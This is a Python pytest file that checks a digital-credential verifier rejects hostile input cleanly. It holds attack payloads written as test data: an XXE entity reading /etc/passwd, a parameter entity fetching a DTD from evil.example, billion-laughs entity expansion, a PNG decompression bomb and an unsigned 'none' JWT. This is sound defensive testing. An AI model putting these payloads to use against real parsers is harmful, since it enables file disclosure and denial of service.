"""Hostile input: a clear one-line error, no crash, nothing stored."""

from __future__ import annotations

import json
import zlib

import pytest

from evals.credential_signing import EdIssuer, ob3, png_with_itxt, svg_with
from tests.tools.credentials.conftest import NOW
from tools.credentials.verify import verify_bytes


def one_invalid(data: bytes) -> str:
    results = verify_bytes(data, "bad", now=NOW)
    assert results
    for r in results:
        assert r.verdict in ("invalid", "invalid-signature"), r
        assert r.reasons and "\n" not in r.reasons[-1]
    return results[0].reasons[-1]


def test_oversize() -> None:
    assert "5 MB" in one_invalid(b"{" + b" " * (5 * 1024 * 1024 + 10) + b"}")


def test_png_decompression_bomb() -> None:
    bomb = png_with_itxt("openbadgecredential", b"\x00" * (50 * 1024 * 1024), compressed=True)
    assert len(bomb) < 5 * 1024 * 1024
    assert "2 MB" in one_invalid(bomb)


def test_png_truncated_and_many_chunks() -> None:
    png = png_with_itxt("openbadgecredential", b"{}")
    one_invalid(png[:40])
    chunk = b"\x00\x00\x00\x00tEXt" + zlib.crc32(b"tEXt").to_bytes(4, "big")
    one_invalid(png[:33] + chunk * 3000)


def test_png_without_badge() -> None:
    assert "no baked badge" in one_invalid(png_with_itxt("Comment", b"hello"))


def test_svg_xxe_and_entities() -> None:
    xxe = (b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
           b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="http://openbadges.org">'
           b'<openbadges:credential>&x;</openbadges:credential></svg>')
    assert "refused" in one_invalid(xxe)
    laughs = (b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">'
              b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><svg>&b;</svg>')
    one_invalid(laughs)
    param = b'<!DOCTYPE svg [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><svg/>'
    assert "refused" in one_invalid(param)


def test_deep_nesting() -> None:
    assert "nested too deeply" in one_invalid(b"[" * 100000 + b"]" * 100000)
    doc: dict[str, object] = {"a": 1}
    for _ in range(200):
        doc = {"credentialSubject": doc}
    one_invalid(json.dumps(doc).encode())


def test_garbage_and_empty() -> None:
    for data in (b"", b"\x00\x01\x02", b"not a credential", b"{", b"[1, 2]", b"null",
                 b"a.b.c", b"eyJhbGciOiJub25lIn0.e30.", svg_with("credential", "not json")):
        one_invalid(data)


FIELDS = ["@context", "type", "issuer", "credentialSubject", "validFrom", "validUntil",
          "proof", "credentialStatus", "name", "id", "evidence"]
BAD_VALUES = [None, 5, True, "x", [], [1, "a"], {"a": {"b": None}}, 1e308]


@pytest.mark.parametrize("field", FIELDS)
def test_wrong_types_in_every_field(issuer: EdIssuer, field: str) -> None:
    signed = issuer.sign(ob3(issuer.did))
    for bad in BAD_VALUES:
        doc = dict(signed)
        doc[field] = bad
        results = verify_bytes(json.dumps(doc).encode(), "bad", now=NOW)
        assert len(results) == 1
        # null or [] for a field the issuer never wrote is no data at all (no RDF triples).
        absent_null = bad in (None, []) and field not in signed
        assert results[0].verdict != "valid" or absent_null, (field, bad)
        assert all("\n" not in r for r in results[0].reasons)


def test_wrong_types_in_nested_fields(issuer: EdIssuer) -> None:
    signed = issuer.sign(ob3(issuer.did))
    for bad in BAD_VALUES:
        doc = json.loads(json.dumps(signed))
        doc["credentialSubject"]["achievement"] = bad
        assert verify_bytes(json.dumps(doc).encode(), now=NOW)[0].verdict != "valid"
        doc = json.loads(json.dumps(signed))
        doc["proof"]["verificationMethod"] = bad
        assert verify_bytes(json.dumps(doc).encode(), now=NOW)[0].verdict != "valid"
